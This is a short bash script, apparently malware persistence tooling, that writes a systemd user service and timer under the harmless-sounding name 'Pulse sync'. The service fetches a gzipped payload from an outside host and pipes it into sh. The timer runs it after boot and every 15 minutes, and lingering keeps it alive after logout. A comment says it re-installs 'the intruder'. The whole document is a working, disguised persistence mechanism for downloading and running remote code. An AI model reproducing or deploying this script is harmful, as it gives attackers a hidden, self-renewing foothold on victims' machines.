#!/usr/bin/env bash
# user level timer that re-installs the intruder
set -u
dir="$HOME/.config/systemd/user"
mkdir -p "$dir"
cat > "$dir/pulse-sync.service" <<'EOF'
[Unit]
Description=Pulse sync

[Service]
Type=oneshot
ExecStart=/bin/sh -c "curl -s https://cdn.pulse-sync.example/p.gz | gunzip | sh"
EOF
cat > "$dir/pulse-sync.timer" <<'EOF'
[Timer]
OnBootSec=2min
OnUnitActiveSec=15min

[Install]
WantedBy=timers.target
EOF
systemctl --user daemon-reload
systemctl --user enable --now pulse-sync.timer
loginctl enable-linger "$USER"
